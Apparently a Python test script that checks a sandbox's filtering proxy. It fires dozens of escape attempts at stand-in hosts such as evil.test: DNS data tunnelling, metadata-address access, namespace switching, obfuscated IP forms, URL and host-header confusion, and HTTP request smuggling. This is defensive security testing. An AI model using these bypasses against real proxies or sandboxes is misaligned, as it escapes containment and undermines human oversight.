"""Runs in a sandbox with a filtered network, and tries to bypass its proxy. Prints the outcomes as JSON.

Outside listeners answer TRAP, so an attempt whose answer contains it has succeeded. Arguments: JSON with the ports.
"""

import base64
import ctypes
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from typing import Any

KNOWN = json.loads(sys.argv[1])
TRAP, API, PLAIN, GATEWAY, LAN = (KNOWN[name] for name in ("trap", "api", "plain", "gateway", "lan"))
TRAP_HOST = "127.0.0.2"
TIMEOUT = 5
ATTEMPTS: dict[str, Callable[[], object]] = {}


def attempt(work: Callable[[], object]) -> Callable[[], object]:
    ATTEMPTS[work.__name__] = work
    return work


def proxy(data: bytes) -> bytes:
    """Send bytes to the proxy and return the answer."""
    with socket.create_connection(("127.0.0.1", 3128), TIMEOUT) as connection:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        return read(connection)


def read(connection: socket.socket) -> bytes:
    data = b""
    try:
        while part := connection.recv(65536):
            data += part
    except OSError:
        pass
    return data


def get(url: str, host: str | None = None, *more: str, method: str = "GET", body: str = "") -> bytes:
    lines = [f"{method} {url} HTTP/1.1", f"Host: {host or url.split('/')[2]}", "Connection: close", *more, "", body]
    return proxy("\r\n".join(lines).encode("latin-1"))


def connect(authority: str, data: bytes = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n") -> bytes:
    """Open a tunnel, and send bytes through it."""
    with socket.create_connection(("127.0.0.1", 3128), TIMEOUT) as connection:
        connection.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        head = connection.recv(65536)
        if b" 200 " not in head:
            return head
        connection.sendall(data)
        return head + read(connection)


def tunnel(data: bytes, name: str = "api.test", alpn: list[str] | None = None) -> bytes:
    """Open a tunnel to an allowed host, start TLS in it, and send bytes."""
    with socket.create_connection(("127.0.0.1", 3128), TIMEOUT) as connection:
        connection.sendall(f"CONNECT api.test:{API} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        connection.recv(65536)
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        context.check_hostname = name == "api.test"
        if alpn:
            context.set_alpn_protocols(alpn)
        with context.wrap_socket(connection, server_hostname=name) as inner:
            inner.sendall(data)
            return repr(inner.selected_alpn_protocol()).encode() + read(inner)


def direct(family: int, kind: int, address: Any, protocol: int = 0) -> bytes:
    with socket.socket(family, kind, protocol) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect(address)
        connection.send(b"GET / HTTP/1.1\r\n\r\n")
        return connection.recv(100)


TCP, UDP = socket.SOCK_STREAM, socket.SOCK_DGRAM
QUERY = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\x07secrets\x04evil\x04test\x00" + struct.pack(">2H", 1, 1)

for name, family, kind, address in [
    ("direct_loopback_of_the_machine", socket.AF_INET, TCP, (TRAP_HOST, TRAP)),
    ("direct_local_network", socket.AF_INET, TCP, (LAN, TRAP)),
    ("direct_gateway", socket.AF_INET, TCP, ("127.0.0.1", GATEWAY)),
    ("direct_public_address", socket.AF_INET, TCP, ("1.1.1.1", 443)),
    ("direct_metadata", socket.AF_INET, TCP, ("169.254.169.254", 80)),
    ("direct_ipv6_loopback", socket.AF_INET6, TCP, ("::1", TRAP)),
    ("direct_ipv6_public", socket.AF_INET6, TCP, ("2606:4700:4700::1111", 443)),
    ("direct_mapped_ipv4", socket.AF_INET6, TCP, (f"::ffff:{TRAP_HOST}", TRAP)),
    ("udp_loopback", socket.AF_INET, UDP, (TRAP_HOST, TRAP)),
    ("udp_public", socket.AF_INET, UDP, ("8.8.8.8", 53)),
    ("unix_socket_of_the_proxy", socket.AF_UNIX, TCP, KNOWN["handover"]),
    ("unix_socket_of_docker", socket.AF_UNIX, TCP, "/var/run/docker.sock"),
    ("unix_socket_of_the_test", socket.AF_UNIX, TCP, KNOWN["unix"]),
    ("abstract_socket_of_the_test", socket.AF_UNIX, TCP, "\0" + KNOWN["abstract"]),
]:
    ATTEMPTS[name] = lambda family=family, kind=kind, address=address: direct(family, kind, address)  # type: ignore[misc]


@attempt
def dns_to_every_nameserver() -> object:
    with open("/etc/resolv.conf") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver")]
    found = []
    for server in [*servers, TRAP_HOST, "127.0.0.53"]:
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, UDP) as connection:
            connection.settimeout(0.5)
            try:
                connection.sendto(QUERY, (server, 53))
                found.append(connection.recv(512))
            except OSError as error:
                found.append(repr(error).encode())
    return b"TRAP" if any(answer.startswith(b"\0\1") for answer in found) else b"; ".join(found)


@attempt
def names_are_not_resolved() -> object:
    return b"TRAP " + repr(socket.getaddrinfo("example.org", 443)).encode()


@attempt
def a_name_as_a_tunnel_for_data() -> object:
    return get(f"http://c2VjcmV0.dns.evil.test:{TRAP}/")


@attempt
def raw_socket() -> object:
    return direct(socket.AF_INET, socket.SOCK_RAW, (TRAP_HOST, 0), socket.IPPROTO_ICMP)


@attempt
def packet_socket() -> object:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        return b"TRAP: a packet socket"


@attempt
def virtual_machine_socket() -> object:
    return direct(socket.AF_VSOCK, TCP, (2, TRAP))


@attempt
def a_new_interface_by_netlink() -> object:
    run = subprocess.run(["ip", "link", "add", "x", "type", "dummy"], capture_output=True, check=False)
    return b"TRAP: made" if run.returncode == 0 else run.stderr


@attempt
def another_network_namespace() -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        found.append(libc.setns(fd, 0x40000000))
        os.close(fd)
    found.append(libc.unshare(0x40000000))
    return b"TRAP: entered" if 0 in found else repr(found)


@attempt
def the_interfaces() -> object:
    names = [name for _, name in socket.if_nameindex()]
    return b"TRAP " + repr(names).encode() if set(names) - {"lo"} else repr(names)


@attempt
def the_process_of_the_proxy() -> object:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            found.append(file.read())
    return b"TRAP" if any(b"hawse_gateway.egress" in line for line in found) else repr(found)


for text in (
    *("127.0.0.2", "2130706434", "0177.0.0.2", "0x7f.0.0.2", "0x7f000002", "127.2", "[::ffff:127.0.0.2]", "127.0.0.2."),
    *("[::ffff:7f00:2]", "[::127.0.0.2]", "[64:ff9b::7f00:2]", "[2002:7f00:2::]", "[::1]", "[::]", "0.0.0.0", "0"),
    *("localhost", "localhost.", "LOCALHOST", "evil.test", "evil.test.", "EVIL.test", "inside.test", "meta.test", LAN),
    *("127。0。0。2", "①②⑦.0.0.2", "127.0.0.2%00.api.test", "api.test\t.evil.test", "169.254.169.254"),
):
    ATTEMPTS[f"get {text}"] = lambda text=text: get(f"http://{text}:{TRAP}/")  # type: ignore[misc]
    ATTEMPTS[f"connect {text}"] = lambda text=text: connect(f"{text}:{TRAP}")  # type: ignore[misc]

for name, url, host in [
    ("userinfo", f"http://plain.test:{PLAIN}@evil.test:{TRAP}/", None),
    ("userinfo_reversed", f"http://evil.test:{TRAP}@plain.test:{PLAIN}/", None),
    ("backslash", f"http://evil.test:{TRAP}\\@plain.test:{PLAIN}/", None),
    ("fragment", f"http://evil.test:{TRAP}#@plain.test:{PLAIN}/", None),
    ("query", f"http://evil.test:{TRAP}?@plain.test:{PLAIN}/", None),
    ("another_host_header", f"http://plain.test:{PLAIN}/", f"evil.test:{TRAP}"),
    ("another_host_in_the_target", f"http://evil.test:{TRAP}/", f"plain.test:{PLAIN}"),
    ("no_scheme", f"//evil.test:{TRAP}/", f"plain.test:{PLAIN}"),
    ("origin_form", "/", f"evil.test:{TRAP}"),
    ("ftp", f"ftp://evil.test:{TRAP}/", f"evil.test:{TRAP}"),
    ("gopher", f"gopher://evil.test:{TRAP}/", f"evil.test:{TRAP}"),
    ("https_in_the_target", f"https://evil.test:{TRAP}/", f"evil.test:{TRAP}"),
    ("file", "file:///etc/passwd", "x"),
    ("the_proxy_itself", "http://127.0.0.1:3128/", None),
    ("the_gateway", f"http://127.0.0.1:{GATEWAY}/", None),
    ("another_port_of_an_allowed_host", f"http://closed.test:{TRAP}/", None),
]:
    ATTEMPTS[name] = lambda url=url, host=host: get(url, host)  # type: ignore[misc]


@attempt
def two_hosts() -> object:
    return get(f"http://plain.test:{PLAIN}/", f"plain.test:{PLAIN}", f"Host: evil.test:{TRAP}")


@attempt
def a_redirect() -> object:
    run = subprocess.run(
        ["curl", "-sSL", "--max-time", "10", f"http://plain.test:{PLAIN}/redirect"], capture_output=True, check=False
    )
    return run.stdout + run.stderr


@attempt
def a_request_in_the_body() -> object:
    smuggled = f"GET http://evil.test:{TRAP}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    lengths = ("Content-Length: 4", "Transfer-Encoding: chunked")
    return get(f"http://plain.test:{PLAIN}/", None, *lengths, method="POST", body=f"0\r\n\r\n{smuggled}")


@attempt
def an_odd_transfer_encoding() -> object:
    found = b""
    for value in ("xchunked", "chunked, identity", "\x0bchunked", "chunked\r\nTransfer-Encoding: x"):
        found += get(
            f"http://plain.test:{PLAIN}/", None, f"Transfer-Encoding: {value}", method="POST", body="0\r\n\r\n"
        )
    return found


@attempt
def a_line_end_in_the_target() -> object:
    return get(f"http://plain.test:{PLAIN}/ HTTP/1.1\r\nHost: evil.test:{TRAP}\r\nX:", f"plain.test:{PLAIN}")


@attempt
def websocket() -> object:
    key = base64.b64encode(os.urandom(16)).decode()
    upgrade = ("Connection: Upgrade", "Upgrade: websocket", f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13")
    answer = get(f"http://plain.test:{PLAIN}/upgrade", None, *upgrade)
    return b"TRAP: switched" if b" 101 " in answer else answer


@attempt
def http2_by_upgrade() -> object:
    upgrade = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA")
    answer = get(f"http://plain.test:{PLAIN}/upgrade", None, *upgrade)
    return b"TRAP: switched" if b" 101 " in answer else answer


@attempt
def http2_at_once() -> object:
    return proxy(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")


@attempt
def http2_by_alpn() -> object:
    answer = tunnel(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", alpn=["h2"])
    return b"TRAP: h2" if b"h2" in answer[:6] else answer


@attempt
def another_name_by_sni() -> object:
    return tunnel(f"GET / HTTP/1.1\r\nHost: api.test:{API}\r\n\r\n".encode(), name="evil.test")


@attempt
def another_host_in_a_tunnel() -> object:
    return tunnel(f"GET / HTTP/1.1\r\nHost: evil.test:{TRAP}\r\nConnection: close\r\n\r\n".encode())


@attempt
def an_absolute_target_in_a_tunnel() -> object:
    return tunnel(
        f"GET http://evil.test:{TRAP}/ HTTP/1.1\r\nHost: api.test:{API}\r\nConnection: close\r\n\r\n".encode()
    )


@attempt
def a_tunnel_in_a_tunnel() -> object:
    return tunnel(f"CONNECT evil.test:{TRAP} HTTP/1.1\r\nHost: evil.test:{TRAP}\r\n\r\n".encode())


@attempt
def another_protocol_in_a_tunnel() -> object:
    return connect(f"plain.test:{PLAIN}", b"SSH-2.0-x\r\n")


@attempt
def trace() -> object:
    return tunnel(f"TRACE / HTTP/1.1\r\nHost: api.test:{API}\r\nConnection: close\r\n\r\n".encode())


@attempt
def another_proxy() -> object:
    handler = urllib.request.ProxyHandler({"http": f"http://{TRAP_HOST}:{TRAP}"})
    return urllib.request.build_opener(handler).open("http://plain.test/", timeout=TIMEOUT).read()


def outcome(work: Callable[[], object]) -> str:
    try:
        found = work()
        text = found.decode("latin-1") if isinstance(found, bytes) else str(found)
        return "TRAP" if "TRAP" in text else text[-300:]
    except Exception as error:
        return f"{type(error).__name__}: {error}"


print(json.dumps({name: outcome(work) for name, work in ATTEMPTS.items()}))
